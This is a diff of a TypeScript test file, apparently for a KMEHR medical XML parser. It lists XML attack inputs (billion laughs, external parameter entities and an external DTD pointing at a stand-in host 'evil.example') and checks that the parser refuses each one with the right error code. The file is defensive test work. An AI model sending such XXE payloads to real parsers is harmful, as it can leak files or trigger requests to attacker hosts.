@@ -41,7 +41,11 @@ const CORPUS: ReadonlyArray<readonly [string, string, string]> = [
   ['billion laughs', billionLaughs, 'XML_ENTITY_DECLARATION'],
   ['external parameter entity', `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${OPEN}</kmehrmessage>`, 'XML_EXTERNAL_ENTITY'],
   ['internal parameter entity', `<!DOCTYPE x [<!ENTITY % p "<!ENTITY e 'x'>"> %p;]>${OPEN}&e;</kmehrmessage>`, 'XML_ENTITY_DECLARATION'],
-  ['DOCTYPE after a comment', `<?xml version="1.0"?>\n<!-- innocent -->\n<!DOCTYPE kmehrmessage>\n${VALID.slice(VALID.indexOf('<kmehrmessage'))}`, 'XML_DOCTYPE_FORBIDDEN'],
+  [
+    'DOCTYPE after a comment',
+    `<?xml version="1.0"?>\n<!-- innocent -->\n<!DOCTYPE kmehrmessage>\n${VALID.slice(VALID.indexOf('<kmehrmessage'))}`,
+    'XML_DOCTYPE_FORBIDDEN',
+  ],
   ['external DTD subset', `<!DOCTYPE kmehrmessage SYSTEM "http://evil.example/k.dtd">${OPEN}</kmehrmessage>`, 'XML_EXTERNAL_ENTITY'],
 ];
 
@@ -135,7 +139,12 @@ describe('XML attack corpus', () => {
       const all = Buffer.concat([bom, Buffer.from(VALID)]);
       for (let i = 0; i < all.length; i += 1) yield all.subarray(i, i + 1); // splits the BOM and every é
     }
-    await streamKmehr(source(), { header() {}, folder() { folders++; } });
+    await streamKmehr(source(), {
+      header() {},
+      folder() {
+        folders++;
+      },
+    });
     expect(folders).toBe(1);
     // A BOM does not hide a DOCTYPE.
     expect(refusal(Buffer.concat([bom, Buffer.from(`<!DOCTYPE x>${OPEN}</kmehrmessage>`)])).code).toBe('XML_DOCTYPE_FORBIDDEN');
